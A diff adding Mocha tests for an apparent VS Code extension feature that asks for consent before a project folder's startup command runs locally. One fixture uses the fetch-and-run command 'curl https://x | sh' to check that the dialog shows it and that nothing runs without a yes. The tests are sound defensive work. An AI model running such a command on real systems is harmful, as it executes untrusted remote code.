@@ -1,0 +1,96 @@
+// A folder runs on this machine only after a question that names it and what is run: a link can call the command too.
+import assert from "node:assert/strict";
+import { writeFileSync } from "node:fs";
+import path from "node:path";
+import { afterEach, beforeEach, describe, it } from "mocha";
+import * as vscode from "vscode";
+import { withConsent } from "../../../../src/editor/arguments/consent";
+import { FolderRuns, type FolderRunsOptions } from "../../../../src/features/localService/folderRuns";
+import { type AskedWindow, askedWindow } from "../../../support/askedWindow";
+import { MemoryState } from "../../../support/memoryState";
+import { realFiles } from "../../../support/realFiles";
+import { temporaryFolder } from "../../../support/temporaryFolder";
+
+describe("the question before a folder runs on this machine", () => {
+  const workspace = vscode.workspace as unknown as Record<string, unknown>;
+  const before = { ...workspace };
+  let window: AskedWindow;
+  let folder: string;
+  let runs: FolderRuns;
+  const started: string[] = [];
+
+  beforeEach(() => {
+    [window, folder] = [askedWindow(), temporaryFolder("run-question")];
+    started.length = 0;
+    Object.assign(vscode.window, {
+      createTerminal: ({ name }: { readonly name: string }) => {
+        started.push(name);
+        return { show: () => undefined, dispose: () => undefined };
+      },
+    });
+    Object.assign(workspace, {
+      fs: realFiles,
+      workspaceFolders: [{ uri: vscode.Uri.file(folder), name: "shop", index: 0 }],
+      getConfiguration: () => ({ inspect: () => undefined, get: () => undefined }),
+    });
+    runs = new FolderRuns({
+      ...{ accounts: { all: [] }, state: new MemoryState(), clock: { now: () => 0 } },
+      ...{ program: path.join(folder, "no-program.js"), dataDirectory: path.join(folder, "data") },
+    } as unknown as FolderRunsOptions);
+    writeFileSync(path.join(folder, "main.py"), "print(1)\n");
+  });
+  afterEach(() => {
+    runs.dispose();
+    window.restore();
+    for (const key of Object.keys(workspace)) delete workspace[key];
+    Object.assign(workspace, before);
+  });
+
+  const projectFile = (file: object): void =>
+    writeFileSync(path.join(folder, "hosted-app.json"), JSON.stringify(file));
+
+  it("names the folder and its start, and runs nothing without a yes, whatever called it", async () => {
+    projectFile({ name: "Shop", mainFile: "main.py", startupCommand: "curl https://x | sh" });
+    const uri = vscode.Uri.file(folder);
+    for (const argument of [undefined, uri, { folder: uri.toString() }, { folder }])
+      await assert.rejects(runs.run(argument), { name: "CancelledError" });
+    assert.deepEqual(
+      window.asked,
+      Array(4).fill({
+        text: "Run Shop on this machine?",
+        lines: [
+          folder,
+          "It starts with the command: curl https://x | sh",
+          "Its packages are installed first, which can run scripts of their own.",
+        ],
+        buttons: ["Run"],
+      }),
+    );
+    assert.deepEqual(started, []);
+  });
+
+  it("is asked again where a run has failed, and names the file that starts it", async () => {
+    projectFile({ name: "Shop", mainFile: "main.py" });
+    window.answer = "Run";
+    for (let time = 0; time < 2; time++)
+      await assert.rejects(runs.run(undefined), (error: Error) => error.name !== "CancelledError");
+    assert.deepEqual(
+      window.asked.filter(({ text }) => text.startsWith("Run ")).map(({ lines }) => lines[1]),
+      ["It starts with the file main.py.", "It starts with the file main.py."],
+    );
+    assert.deepEqual(started.length, 2);
+  });
+
+  it("is refused where the command does not fit", async () => {
+    projectFile({ name: "Shop", startupCommand: "x".repeat(1_001) });
+    await assert.rejects(runs.run(undefined), /too long to be shown whole/);
+    assert.deepEqual(started, []);
+  });
+
+  it("is not asked for a call of our own code", async () => {
+    projectFile({ name: "Shop", mainFile: "main.py" });
+    const argument = withConsent({ folder });
+    await assert.rejects(runs.run(argument), (error: Error) => error.name !== "CancelledError");
+    assert.deepEqual([window.asked, started.length], [[], 1]);
+  });
+});
